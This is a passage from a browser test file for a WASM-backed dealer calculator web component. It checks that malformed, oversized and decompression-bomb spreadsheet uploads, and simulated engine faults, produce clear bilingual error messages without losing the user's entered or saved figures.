    const valid = await writeXlsxFile([[{ value: 'dealer_id' }, { value: 'content_posts' }], [{ value: 'D-9' }, { value: 99 }]]).toBuffer();
    const random = Buffer.alloc(64 * 1024);
    for (let i = 0; i < random.length; i++) random[i] = (i * 2654435761) >>> 24;
    const oversized = zipOf([{ name: 'xl/media/filler.bin', data: Buffer.alloc(3 * 1024 * 1024, 7), method: 0 }]);
    const cases = [
      ['random.xlsx', random, /random\.xlsx 不是有效的 Excel（\.xlsx）文件/],
      ['truncated.xlsx', valid.subarray(0, valid.length >> 1), /truncated\.xlsx 不是有效的 Excel（\.xlsx）文件/],
      ['bomb.xlsx', bomb, /文件 bomb\.xlsx：这个 Excel 文件解压后超过 16 MB，本页无法读取/],
      ['lying-bomb.xlsx', lying, /文件 lying-bomb\.xlsx：这个 Excel 文件解压后超过 16 MB，本页无法读取/],
      ['oversized.xlsx', oversized, /文件 oversized\.xlsx：文件太大（3 MB）：本页最多读取 2 MB 的数据文件/],
    ];
    for (const [name, bytes, expected] of cases) {
      const out = await uploadOutcome(b.page, name, () => uploadFigures(b.page, name, bytes));
      assert.match(out.text, expected, `${name}: ${out.text}`);
      assert.match(out.text, new RegExp(`${name.replace('.', '\\.')} 未能载入，已填写的数据没有改动`));
      assert.ok(out.slowest < 3000, `${name}: the page answered within ${out.slowest} ms`);
      await kept(name);
    }
    // The same refusal reads in English.
    const rev = await revision(b.page);
    await b.page.locator('dealer-calculator select.lang-select').selectOption('en');
    await settled(b.page, rev);
    assert.match(await noticeText(b.page), /oversized\.xlsx was not loaded; the figures you entered are unchanged\.[\s\S]*The file is too large \(3 MB\): this page reads figures files of up to 2 MB/);
    assert.deepEqual(b.log.errors, []);
  } finally {
    await b.close();
  }
});

// ---- a failing engine -------------------------------------------------------------------------

test('a failing WASM engine shows an error and keeps the dealer\'s figures', async () => {
  const b = await launchPage();
  try {
    await openFresh(b.page, OFFLINE_URL);
    await typeFigure(b.page, 'content_posts', '7');
    await typeFigure(b.page, 'content_reads', '12345');
    await settled(b.page, 0);
    const before = await shownTotals(b.page);
    const inputs = () => b.page.evaluate(() => Object.fromEntries([...document.querySelector('dealer-calculator').shadowRoot.querySelectorAll('input[name]:not([type=radio])')].filter((i) => i.value).map((i) => [i.name, i.value])));
    const saved = () => b.page.evaluate(() => JSON.parse(localStorage.getItem(Object.keys(localStorage).find((k) => k.startsWith('dealer-calc:figures:')))).raw);
    const fault = (kind) =>
      b.page.evaluate((kind) => {
        const el = document.querySelector('dealer-calculator');
        const proto = el._calc._raw.Program.prototype;
        window.__evaluate ||= proto.evaluate;
        window.__parseCsv ||= proto.parseCsv;
        window.__programEvaluate ||= el._program.evaluate;
        const trap = () => {
          throw new WebAssembly.RuntimeError('unreachable');
        };
        if (kind === 'trap') proto.evaluate = trap; // every evaluation traps
        if (kind === 'drivers') proto.evaluate = function (figures, next, ...rest) {
          if (next) trap(); // only the full evaluation with next-tier drivers
          return window.__evaluate.call(this, figures, next, ...rest);
        };
        if (kind === 'js') el._program.evaluate = () => {
          throw new TypeError('not a DealerCalcError');
        };
        if (kind === 'csv') proto.parseCsv = trap;
        if (kind === 'none') {
          proto.evaluate = window.__evaluate;
          proto.parseCsv = window.__parseCsv;
          el._program.evaluate = window.__programEvaluate;
        }
      }, kind);

    // The engine traps on every evaluation: an error panel, the figures stay.
    await fault('trap');
    await typeFigure(b.page, 'leads', '50');
    await b.page.waitForSelector('dealer-calculator .notice-error[data-kind=evaluate]');
    assert.match(await noticeText(b.page), /内部错误：dealer-calc: unreachable/);
    assert.deepEqual(await inputs(), { content_posts: '7', content_reads: '12345', leads: '50' });
    await b.page.waitForTimeout(400);
    assert.deepEqual(await saved(), { content_posts: '7', content_reads: '12345', leads: '50' }, 'saved on the device');
    assert.deepEqual(await shownTotals(b.page), before, 'the last result stays');

    // A JavaScript exception (not the core's error): still a translated message.
    await fault('none');
    await fault('js');
    await typeFigure(b.page, 'leads', '51');
    await b.page.waitForFunction(() => /not a DealerCalcError/.test(document.querySelector('dealer-calculator').shadowRoot.querySelector('.notice-error')?.textContent || ''));
    const text = await noticeText(b.page);
    assert.match(text, /内部错误：not a DealerCalcError/);
    assert.doesNotMatch(text, /\{\w+\}|undefined/, 'no raw placeholder');

    // Only the deferred evaluation with drivers fails: totals update, the actions say why.
    await fault('none');
    await fault('drivers');
    await typeFigure(b.page, 'content_posts', '8');
    await b.page.waitForFunction(() => /暂时无法计算下一步建议/.test(document.querySelector('dealer-calculator').shadowRoot.querySelector('.actions')?.textContent || ''));
    assert.notDeepEqual(await shownTotals(b.page), before, 'the quick evaluation still runs');
    assert.match(await noticeText(b.page), /内部错误：dealer-calc: unreachable/);

    // Reading an upload traps: the upload fails, nothing typed changes.
    await fault('none');
    await fault('csv');
    await uploadFigures(b.page, 'trap.csv', 'dealer_id,content_posts\r\nD-1,99\r\n', 'text/csv');
    await waitNotice(b.page, /trap\.csv 未能载入/);
    assert.match(await noticeText(b.page), /文件 trap\.csv：内部错误/);
    assert.equal((await inputs()).content_posts, '8');

    // The engine works again: the error goes, the result is the core's.
    await fault('none');
    const rev = await revision(b.page);
    await typeFigure(b.page, 'content_posts', '9');
    await settled(b.page, rev);
    assert.equal(await b.page.locator('dealer-calculator .notice-error[data-kind=evaluate]').count(), 0, 'the error is gone');
    assert.deepEqual(await inputs(), { content_posts: '9', content_reads: '12345', leads: '51' });
    await b.page.waitForTimeout(400);

    // The engine cannot start at all (WebAssembly refused): a message, and the saved
    // figures come back once it can.
    await b.context.addInitScript(() => {
      if (sessionStorage.getItem('fault')) WebAssembly.instantiate = () => Promise.reject(new Error('injected fault'));
    });
    await b.page.evaluate(() => sessionStorage.setItem('fault', '1'));
    await b.page.goto(OFFLINE_URL);
    await b.page.waitForFunction(() => document.querySelector('dealer-calculator')?.shadowRoot.querySelector('.status.error'));
    assert.match(await b.page.evaluate(() => document.querySelector('dealer-calculator').shadowRoot.querySelector('.status').textContent), /^计算引擎无法启动：.*injected fault/);
    assert.deepEqual(await saved(), { content_posts: '9', content_reads: '12345', leads: '51' }, 'nothing lost');
    await b.page.evaluate(() => sessionStorage.removeItem('fault'));
    await b.page.goto(OFFLINE_URL);
    await settled(b.page);
    assert.deepEqual(await inputs(), { content_posts: '9', content_reads: '12345', leads: '51' });
    assert.deepEqual(b.log.errors, []);
  } finally {
    await b.close();
  }
});
